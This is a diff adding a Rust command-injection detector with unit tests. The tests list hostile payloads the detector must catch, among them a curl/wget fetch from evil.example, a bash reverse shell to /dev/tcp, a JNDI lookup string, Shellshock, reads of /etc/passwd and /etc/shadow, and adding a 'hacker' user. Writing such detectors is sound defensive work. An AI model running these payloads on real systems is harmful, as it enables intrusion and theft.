@@ -1,0 +1,134 @@
+//! Injection of commands (CWE-78; OWASP WSTG-INPV-12): a command of a shell behind something that ends the one before it.
+//!
+//! A word is never enough. A rule wants a separator or a substitution, then a known command, then an argument of a command's kind: an
+//! option, a path, a URL, a variable. What shells ignore is taken out for a second look: `c''at`, `c\at`, `w"h"oami`, `c$@at`.
+
+mod bare;
+mod rules;
+
+use self::rules::{BARE, RULES};
+use super::{BuildError, CERTAIN, Detector, Family, Finding, Marks, RuleSet, Value};
+
+/// Separators, substitutions and variables; and what arguments have, for commands at the beginning of a value.
+const MARKS: Marks = Marks::SEMICOLON
+    .and(Marks::PIPE)
+    .and(Marks::QUOTE)
+    .and(Marks::DOLLAR)
+    .and(Marks::BREAK)
+    .and(Marks::BACKSLASH)
+    .and(Marks::SLASH)
+    .and(Marks::CURLY)
+    .and(Marks::ROUND)
+    .and(Marks::PERCENT)
+    .and(Marks::EQUALS)
+    .and(Marks::BLANK);
+
+/// What shells take out of words.
+const IGNORED: Marks = Marks::QUOTE.and(Marks::BACKSLASH).and(Marks::DOLLAR).and(Marks::OTHER);
+
+/// Finds injected commands.
+pub(super) struct Command {
+    rules: RuleSet,
+    bare: RuleSet,
+}
+
+impl Command {
+    pub(super) fn new() -> Result<Self, BuildError> {
+        Ok(Self {
+            rules: RuleSet::new(RULES)?,
+            bare: RuleSet::new(BARE)?,
+        })
+    }
+}
+
+impl Detector for Command {
+    fn family(&self) -> Family {
+        Family::Command
+    }
+
+    fn wants(&self, marks: Marks) -> bool {
+        marks.any(MARKS)
+    }
+
+    fn look(&self, value: &Value<'_>) -> Option<Finding> {
+        if !value.is_entered() {
+            return None;
+        }
+        let finding = self.rules.judge(value);
+        let is_certain = finding.as_ref().is_some_and(|finding| finding.score >= CERTAIN);
+        if is_certain || value.is_document || !value.marks.any(IGNORED) {
+            return finding;
+        }
+        bare::command(value.text)
+            .and_then(|bare| self.bare.judge(&value.with_text(&bare)))
+            .map(|found| Finding {
+                at: 0..value.text.len(),
+                ..found
+            })
+            .or(finding)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tests::{assert_finds, assert_passes};
+
+    #[test]
+    fn commands_are_found() {
+        assert_finds(
+            "command",
+            &[
+                "; cat /etc/passwd",
+                "127.0.0.1 && whoami",
+                "127.0.0.1|id",
+                "`id`",
+                "$(curl http://evil.example/x.sh)",
+                "x;wget${IFS}http://evil.example/x",
+                ";c'a't /etc/passwd",
+                "c\\at /etc/shadow;id",
+                ";c$@at+/et$@c/passwd",
+                "& ping -n 10 127.0.0.1 &",
+                "| dir c:\\",
+                "() { :;}; /bin/bash -c \"id\"",
+                "${jndi:ldap://evil.example/a}",
+                "${${lower:j}ndi:rmi://x/y}",
+                "; cat /e??/pa??wd",
+                "\nid\n",
+                "a;/usr/bin/id",
+                "& for /f \"delims=\" %i in ('whoami') do echo %i",
+                "if exist c:\\boot.ini echo x",
+                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                "; net user hacker Password1 /add",
+                "{cat,/etc/passwd}",
+                "cat /etc/passwd",
+                "system('ls -la')",
+            ],
+        );
+    }
+
+    #[test]
+    fn look_alikes_pass() {
+        assert_passes(&[
+            "cats; dogs; and find more",
+            "R&D; sales & marketing",
+            "top 10 list",
+            "kill -9 is my last resort",
+            "rm -rf is dangerous",
+            "nc 8000 controller",
+            "A&W",
+            "AT&T; who else?",
+            "Run `npm install` and then `npm test`",
+            "if you like it | share it",
+            "Terms & Conditions; last update",
+            "<h2>Heading</h2><p>Text & more</p>",
+            "if (a == b) { return; }",
+            "src/**/*.ts",
+            "/maps/api/geocode/json?address=Reader",
+            "price: $100; sale: $80",
+            "more; less; head; tail",
+            "Tom & Jerry find gold",
+            "who's there? & why",
+            "sort by date; newest first",
+        ]);
+    }
+}
